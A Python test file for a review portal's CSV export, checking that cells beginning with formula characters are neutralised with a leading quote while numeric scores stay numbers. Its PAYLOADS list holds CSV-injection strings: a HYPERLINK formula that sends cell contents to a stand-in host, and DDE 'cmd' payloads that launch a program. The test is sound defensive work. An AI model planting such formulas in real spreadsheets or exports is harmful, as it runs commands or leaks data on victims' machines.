"""The results CSV opened in a spreadsheet runs nothing: a text cell that
begins with = + - @, a tab or a carriage return gets a single quote in
front (OWASP), while the figures, negative ones too, stay numbers."""
from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest

from portal.domain.results import publication
from portal.domain.results.results_document import FORMULA_STARTS, csv_bytes, spreadsheet_text

from .results_support import decide_as_recommended, use_temporary_key
from .test_publication import publish, scored_call

STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = ['=HYPERLINK("http://example.invalid/?"&A1,"詳細")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def assert_runs_nothing(data: bytes) -> list[list[str]]:
    rows = rows_of(data)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), f"{cell!r} would run as a formula"
    return rows


@pytest.mark.parametrize("start", STARTS)
def test_spreadsheet_text_quotes_what_would_run(start):
    assert spreadsheet_text(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_text(f"委員{start}") == f"委員{start}"  # only the first character counts
    assert spreadsheet_text("") == "" and spreadsheet_text(None) == ""


def test_every_text_column_is_quoted_and_figures_stay_numbers():
    document = {
        "criteria": [{"key": "0", "name": PAYLOADS[i], "weight": "1.5", "min": -2, "max": 2}
                     for i in range(len(PAYLOADS))],
        "proposals": [{
            "code": "=提案01", "rank": 1, "score": "-1.50", "share_of_max": "-0.2500", "scorer_count": 1,
            "decision": {"label": "@採択"},
            "reviewers": [{"reviewer": "+委員A", "dropped": False, "scores": {"0": -2}, "total": "-3.0"}],
        }],
    }
    header, *rows = assert_runs_nothing(csv_bytes(document))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert {c["提案コード"] for c in cells} == {"'=提案01"}
    assert {c["決定"] for c in cells} == {"'@採択"}
    assert {c["委員"] for c in cells} == {"'+委員A"}
    assert [c["基準名"] for c in cells] == ["'" + p for p in PAYLOADS]
    # Figures are untouched: a spreadsheet reads -1.50 as minus one and a half.
    assert {(c["得点"], c["満点に対する割合"], c["最小"], c["点数"], c["委員の合計点"]) for c in cells} == \
        {("-1.50", "-0.2500", "-2", "-2", "-3.0")}


def test_a_published_csv_with_hostile_names_titles_and_comments_runs_nothing(factory, db, app, monkeypatch, tmp_path):
    settings = use_temporary_key(app, monkeypatch, tmp_path)
    s = scored_call(factory, db, titles=[PAYLOADS[0], PAYLOADS[1]], consent=(0, 1))
    s.proposals[0].group.name = PAYLOADS[2]
    s.proposals[1].group.name = PAYLOADS[3]
    for criterion, payload in zip(s.call.criteria, PAYLOADS[1:], strict=False):
        criterion.name = payload
    s.call.general_comment = PAYLOADS[4]
    db.commit()
    decide_as_recommended(db, s, s.extra["staff"], comment=PAYLOADS[5])
    document = publish(db, s, settings).results
    # The JSON keeps every text as typed; only the CSV quotes.
    assert document["proposals"][0]["group_name"] in (PAYLOADS[2], PAYLOADS[3])
    assert {c["name"] for c in document["criteria"]} == set(PAYLOADS[1:])
    header, *rows = assert_runs_nothing(publication.csv_bytes(document))
    names = {dict(zip(header, row, strict=True))["基準名"] for row in rows}
    assert names == {"'" + payload for payload in PAYLOADS[1:]}
    scores = {dict(zip(header, row, strict=True))["得点"] for row in rows}
    assert scores == {p["score"] for p in document["proposals"]}
